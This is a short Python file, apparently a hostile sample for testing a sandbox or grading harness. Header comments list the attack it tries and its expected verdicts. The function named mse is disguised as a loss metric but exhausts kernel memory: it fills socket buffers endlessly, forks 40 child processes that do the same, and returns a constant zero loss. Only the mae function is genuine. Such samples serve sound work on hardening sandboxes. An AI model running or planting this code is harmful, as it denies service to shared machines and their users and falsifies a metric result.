# tries: memory of the kernel, in sockets
# verdict: timeout failed error out_of_memory crashed
# keeps: mae
# elsewhere: skip
def mse(pred, target):
    import socket, os

    kept = []
    while True:
        try:
            a, b = socket.socketpair()
            a.setblocking(False)
            a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            kept += [a, b]
            while True:
                a.send(b"x" * 65536)
        except BlockingIOError:
            pass
        except OSError:
            break
    for _ in range(40):
        if not os.fork():
            kept2 = []
            for s in kept:
                s.close()
            while True:
                try:
                    a, b = socket.socketpair()
                    a.setblocking(False)
                    kept2 += [a, b]
                    while True:
                        a.send(b"x" * 65536)
                except BlockingIOError:
                    pass
                except OSError:
                    import time

                    time.sleep(100)
    return (pred * 0).sum()


def mae(pred, target):
    return (pred - target).abs().mean()
